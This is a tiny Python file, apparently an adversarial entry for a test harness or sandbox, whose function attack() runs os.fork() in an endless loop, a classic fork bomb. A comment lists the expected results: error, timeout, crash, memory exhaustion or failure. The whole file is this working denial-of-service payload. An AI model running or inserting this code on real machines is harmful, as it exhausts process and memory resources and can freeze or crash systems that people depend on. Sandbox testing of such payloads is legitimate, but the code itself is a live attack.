"""Forks without end."""
# ends: error|timeout|crashed|memory|failed

import os


def attack(honest, *args, **kwargs):
    while True:
        os.fork()
